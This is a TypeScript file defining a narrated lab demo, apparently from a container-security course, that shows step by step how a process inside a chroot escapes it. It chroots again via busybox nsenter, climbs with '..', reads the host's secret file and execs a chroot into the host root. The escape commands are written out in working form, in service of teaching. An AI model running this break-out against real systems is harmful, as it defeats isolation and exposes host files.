import { defineDemo } from "../../harness/judge/index.ts";

export default defineDemo({
	title: "In and out of a chroot",
	minutes: 5,
	views: ["mounts", "answers"],
	steps: [
		{
			narration: "The host has a secret. A container is to see the files of its image, and not this one.",
			stage: "host",
			command: `echo "the host's secret" > /secret; cat /secret`,
			look: "So far, every process on this machine can read it.",
			promises: ["the host's secret"],
		},
		{
			narration: "An image unpacks to a directory, a rootfs. chroot makes it the place where our paths start.",
			stage: "container",
			command: "chroot /lab/rootfs sh",
			look: "The prompt is that of a shell out of the rootfs.",
			promises: [],
		},
		{
			narration: "Is the secret gone?",
			stage: "container",
			command: "ls /; cat /secret",
			look: "Seven directories, and no secret.",
			promises: ["bin\\s+dev\\s+etc\\s+proc\\s+root\\s+sys\\s+tmp", "can't open '/secret'"],
		},
		{
			narration: "Perhaps we can simply walk out of it.",
			stage: "container",
			command: "cd /../../../..; pwd; ls -d lab || echo 'still inside'",
			look: "At its own root, .. stays where it is. It looks like a wall.",
			promises: ["/\\s", "still inside"],
		},
		{
			narration:
				"But chroot moves the root, and not the current directory. So from inside, we move the root once more, down to /tmp, and stay where we are. Then we climb.",
			stage: "container",
			command:
				"cd /; busybox nsenter --root=/tmp --wd=/ bin/busybox sh -c 'cd -P ../..; usr/bin/busybox ls -d lab; usr/bin/busybox cat secret'",
			look: "The host's files, and the secret. On our way up, .. never met the root: that one is below us now.",
			promises: ["lab\\s+the host's secret"],
			note: "nsenter saves us a program: it calls chroot for --root and fchdir for --wd.",
		},
		{
			narration: "One more chroot, up there, and we have the host's root as if nothing had been.",
			stage: "container",
			command:
				"busybox nsenter --root=/tmp --wd=/ bin/busybox sh -c 'cd -P ../..; exec usr/bin/busybox chroot . /bin/sh'",
			look: "That was the whole break-out: chroot, climb, chroot.",
			promises: [],
		},
		{
			narration: "Who are we now?",
			stage: "container",
			command: "cat /secret; ls -d /lab/rootfs",
			look: "Outside, and root. The repair is not to guard the door, but to leave nothing on the other side. That is lesson 04.",
			promises: ["the host's secret\\s+/lab/rootfs"],
		},
	],
});
